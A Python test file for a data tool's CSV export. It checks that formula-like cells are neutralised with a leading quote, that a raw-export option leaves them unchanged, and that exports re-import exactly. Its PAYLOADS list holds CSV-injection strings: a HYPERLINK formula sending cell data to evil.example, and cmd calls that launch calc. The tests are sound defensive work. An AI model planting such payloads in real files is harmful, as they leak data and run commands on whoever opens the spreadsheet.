"""CSV exports never hand a spreadsheet a formula, and our own CSV still imports back exactly."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import polars as pl
import pytest

from explorer import export as process_export
from storage.formulas import neutralise_formulas
from storage.store import open_store
from taskmine.cli import main
from tests.explorer.explorer_devdata import build_dev_db

#: Cells a spreadsheet would run (OWASP's first characters), and harmless ones.
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",  # already quoted: quoted once more, so that import can undo exactly one
    "Invoice - 2024",
    "a=b",
]
NEUTRALISED = ["'" + p for p in PAYLOADS[:7]] + PAYLOADS[7:]


def test_neutralise_prefixes_a_quote_to_text_cells_a_spreadsheet_would_run():
    frame = pl.DataFrame({"title": PAYLOADS, "n": list(range(-4, len(PAYLOADS) - 4))})
    out = neutralise_formulas(frame)
    assert out["title"].to_list() == NEUTRALISED
    assert out["n"].to_list() == frame["n"].to_list()  # numbers are no formulas


@pytest.fixture(scope="module")
def hostile_db(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The explorer's hand-built mined database with a payload in every window title."""
    db = build_dev_db(tmp_path_factory.mktemp("formulas") / "dev.duckdb")
    with open_store(db) as store:
        store.con.execute(
            "UPDATE events SET window_title = list_extract(?, 1 + event_id % ?)",
            [PAYLOADS, len(PAYLOADS)],
        )
        store.con.execute("UPDATE processes SET name = ?", [PAYLOADS[0]])
    return db


def _cells(path: Path, column: str) -> set[str]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return {row[column] for row in csv.DictReader(handle)}


def _cli_export(*args: str) -> None:
    assert main(["export", *args]) == 0


@pytest.mark.parametrize(
    ("args", "column"),
    [
        (["events", "--out", "{out}"], "window_title"),
        (["instances", "--out", "{out}"], "window_title"),
        (["instances", "--out", "{out}"], "process_name"),
        (["process", "0", "--format", "csv", "--out", "{out}"], "window_title"),
        (["process", "0", "--format", "csv", "--out", "{out}"], "process_name"),
    ],
)
def test_every_csv_export_neutralises_formulas_unless_raw_is_asked(
    hostile_db, tmp_path, args, column
):
    safe, raw = tmp_path / "safe.csv", tmp_path / "raw.csv"
    db = ["--db", str(hostile_db)]
    _cli_export(*[a.replace("{out}", str(safe)) for a in args], *db)
    _cli_export(*[a.replace("{out}", str(raw)) for a in args], *db, "--raw-csv")
    expected = set(NEUTRALISED) if column == "window_title" else {NEUTRALISED[0]}
    written = set(PAYLOADS) if column == "window_title" else {PAYLOADS[0]}
    assert _cells(safe, column) == expected
    assert _cells(raw, column) == written
    assert safe.read_bytes().startswith(b"\xef\xbb\xbf")  # spreadsheets read it as UTF-8
    assert not raw.read_bytes().startswith(b"\xef\xbb\xbf")


def test_the_explorers_csv_download_is_neutralised(hostile_db):
    done = process_export.export(hostile_db, "0", "csv")
    rows = csv.DictReader(io.StringIO(done.content.decode("utf-8-sig"), newline=""))
    cells = {row["window_title"] for row in rows}
    assert cells <= set(NEUTRALISED) and "'-2+3" in cells


@pytest.mark.parametrize("raw", [False, True])
def test_our_csv_export_imports_back_with_the_same_values(hostile_db, tmp_path, raw):
    out = tmp_path / "events.csv"
    _cli_export("events", "--db", str(hostile_db), "--out", str(out), *(["--raw-csv"] * raw))
    copy = tmp_path / "copy.duckdb"
    assert main(["import", str(out), "--db", str(copy)]) == 0
    columns = ["user_id", "ts", "kind", "app", "window_title", "element_name", "text"]
    with open_store(hostile_db, read_only=True) as a, open_store(copy, read_only=True) as b:
        original, back = a.read_events(columns), b.read_events(columns)
    assert set(original["window_title"]) == set(PAYLOADS)
    assert back.equals(original)
